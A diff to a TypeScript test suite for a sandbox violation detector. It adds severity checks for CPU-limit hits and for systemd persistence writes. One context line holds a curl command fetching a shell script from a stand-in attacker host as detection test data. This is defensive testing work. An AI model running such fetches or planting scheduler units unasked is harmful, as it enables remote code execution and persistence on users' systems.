@@ -114,6 +114,21 @@ describe('findViolations', () => {
     expect(ids([event('exec', '/usr/bin/curl', { argv: ['curl', 'https://get.evil.invalid/i.sh'] })], declared)).toEqual(['dryrun-undeclared-egress']);
   });
 
+  it('warns when creating a Python virtual environment runs out of CPU time, and stays high for anything else', () => {
+    const cpu = (command: string) => findViolations([event('limit', 'CPU time 10000 ms', { limit: 'cpu', command })], noCapabilities(), honeypot).map((violation) => [violation.ruleId, violation.severity]);
+    expect(cpu('python3 -m venv .venv-docs')).toEqual([['dryrun-limit-cpu', 'medium']]);
+    expect(cpu('uv venv .venv')).toEqual([['dryrun-limit-cpu', 'medium']]);
+    expect(cpu('python3 scripts/optimise.py')).toEqual([['dryrun-limit-cpu', 'high']]);
+    expect(cpu('npm install')).toEqual([['dryrun-limit-cpu', 'high']]);
+  });
+
+  it('warns for a scheduler entry that runs what the command line named, and fails for any other', () => {
+    const unit = '~/.config/systemd/user/nightly.service';
+    const persistence = (extra: Partial<DryRunEvent>) => findViolations([event('file-write', unit, extra)], noCapabilities(), honeypot).filter((violation) => violation.ruleId === 'dryrun-persistence').map((violation) => violation.severity);
+    expect(persistence({ schedulesNamedCommand: true })).toEqual(['medium']);
+    expect(persistence({})).toEqual(['critical']);
+  });
+
   it('turns every limit into a violation named after it, processes left running as a warning', () => {
     expect(ids([event('limit', 'CPU time 10000 ms', { limit: 'cpu' })])).toEqual(['dryrun-limit-cpu']);
     expect(findViolations([event('limit', 'processes left running', { limit: 'background' })], noCapabilities(), honeypot).map((violation) => [violation.ruleId, violation.severity])).toEqual([['dryrun-limit-background', 'medium']]);
